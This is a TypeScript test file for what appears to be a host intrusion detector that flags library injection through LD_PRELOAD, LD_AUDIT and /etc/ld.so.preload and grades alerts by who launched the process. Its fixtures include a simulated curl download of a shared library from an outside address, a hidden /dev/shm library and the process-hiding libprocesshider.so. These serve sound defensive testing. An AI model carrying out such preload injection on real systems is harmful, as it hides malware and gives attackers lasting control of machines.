import { describe, expect, it } from 'vitest';
import { debian, Machine } from '../../../test/machine.ts';
import { make, tryOut } from '../testing.ts';
import { preloadExec } from './behaviour.ts';

const stage = (planted: string[] = [], changed: string[] = []): Machine => new Machine(preloadExec, { packages: debian(planted, changed) });

describe('a library forced into a program', () => {
  it.each<[Record<string, string>, (string | undefined)[]]>([
    [{ LD_PRELOAD: '/tmp/x.so' }, ['critical', 'high']], [{ LD_PRELOAD: 'libc.so.6:/dev/shm/.h.so' }, ['critical', 'high']], [{ LD_AUDIT: '/var/tmp/a.so' }, ['critical', 'high']],
    [{ LD_LIBRARY_PATH: '/opt/app/lib:/tmp/l' }, ['high', 'medium']], [{ LD_PRELOAD: '/home/wang/.hid/x.so' }, ['critical', 'high']], [{ LD_PRELOAD: '/usr/lib/libprocesshider.so' }, ['critical', 'low']],
    [{ LD_PRELOAD: './x.so' }, ['critical', undefined]], [{ LD_PRELOAD: '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2' }, [undefined, undefined]], [{ LD_PRELOAD: 'libfakeroot-sysv.so' }, [undefined, undefined]],
    [{ LD_LIBRARY_PATH: '/usr/local/cuda/lib64:/home/wang/lib:' }, [undefined, undefined]], [{ GLIBC_TUNABLES: 'glibc.malloc.check=1' }, [undefined, undefined]],
  ])('%j, from the web and from a log-on', (extra, levels) => {
    const told = [(s: Machine): number => s.worker(), (s: Machine): number => s.login()].map((begin) => {
      const s = stage(['/usr/lib/libprocesshider.so']);
      s.spawn(begin(s), '/usr/bin/ls', 'ls', { extra, uid: 0 });
      return s.levels[0];
    });
    expect(told).toEqual(levels);
  });

  it('is told once, with who wrote it', () => {
    const s = stage();
    const gcc = s.spawn(s.login(), '/usr/bin/curl', 'curl -o /tmp/x.so http://198.51.100.7/x');
    s.file(gcc, 'create', '/tmp/x.so');
    for (let i = 0; i < 5; i++) s.spawn(s.login(), '/usr/bin/ls', 'ls', { extra: { LD_PRELOAD: '/tmp/x.so' } });
    expect(s.levels).toEqual(['high']);
    expect(s.found[0]?.group).toMatchObject({ writer: `/usr/bin/curl[${gcc}]`, source_ip: '203.0.113.9' });
  });

  it('of a package that was changed since it was shipped', () => {
    const s = stage([], ['/usr/lib/libsnoopy.so']);
    s.spawn(s.daemon('app', '/srv/app/bin/app'), '/usr/bin/ls', 'ls', { extra: { LD_PRELOAD: '/usr/lib/libsnoopy.so' } });
    expect(s.levels).toEqual(['medium']);
  });

  it('builds and packages under fakeroot, bundles and a service that brings its own libraries are quiet', () => {
    const s = stage();
    const shell = s.login();
    s.spawn(shell, '/usr/bin/make', 'make', { extra: { LD_PRELOAD: 'libfakeroot-sysv.so', LD_LIBRARY_PATH: '/usr/lib/x86_64-linux-gnu/libfakeroot' } });
    s.spawn(shell, '/tmp/.mount_appX/usr/bin/app', 'app', { extra: { LD_LIBRARY_PATH: '/tmp/.mount_appX/usr/lib' } });
    s.spawn(shell, '/home/wang/b/test', 'test', { extra: { LD_PRELOAD: '/home/wang/b/libmine.so' } });
    s.spawn(s.spawn(shell, '/usr/bin/node', 'npm install x'), '/usr/bin/dash', 'sh -c test', { extra: { LD_PRELOAD: '/tmp/npm-1/x.so' } });
    s.spawn(s.daemon('db', '/usr/sbin/mariadbd'), '/usr/sbin/mariadbd', 'mariadbd', { extra: { LD_PRELOAD: '/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4' } });
    expect(s.levels).toEqual([]);
  });
});

describe('/etc/ld.so.preload', () => {
  it('written, renamed into place or made writable, with its story', () => {
    const s = stage();
    const sh = s.spawn(s.worker(), '/usr/bin/dash', 'sh -c …');
    s.file(sh, 'write', '/etc/ld.so.preload');
    s.file(sh, 'chmod', '/etc/ld.so.preload');
    s.rename(s.spawn(s.login(), '/usr/bin/mv', 'mv /tmp/p /etc/ld.so.preload'), '/tmp/p', '/etc/ld.so.preload');
    s.file(sh, 'write', '/etc/ld.so.cache');
    expect(s.levels).toEqual(['critical', 'critical']);
    expect(s.found.map((d) => d.group?.['origin_en'])).toEqual(['the web service php-fpm', 'the log-on session of wang from 203.0.113.9']);
  });

  it('by the package manager is its work, by a script of npm it is not', () => {
    const s = stage();
    const shell = s.login();
    s.file(s.spawn(s.spawn(s.spawn(shell, '/usr/bin/apt-get', 'apt-get install x'), '/usr/bin/dpkg', 'dpkg --configure x'), '/usr/bin/dash', 'sh /var/lib/dpkg/info/x.postinst configure'), 'write', '/etc/ld.so.preload');
    expect(s.levels).toEqual([]);
    s.file(s.spawn(s.spawn(shell, '/usr/bin/node', 'npm install x'), '/usr/bin/dash', 'sh -c echo'), 'write', '/etc/ld.so.preload');
    expect(s.levels).toEqual(['critical']);
  });
});

it('without a lineage the place still tells', () => {
  const { run, found } = tryOut(preloadExec);
  run.observe(make('process_creation', 1, { action: 'process-start', process_path: '/usr/bin/ls', extra: { LD_PRELOAD: '/tmp/x.so' } }));
  run.observe(make('file_event', 2, { action: 'write', file_path: '/etc/ld.so.preload' }));
  expect(found.map((d) => d.level)).toEqual(['high', 'critical']);
});
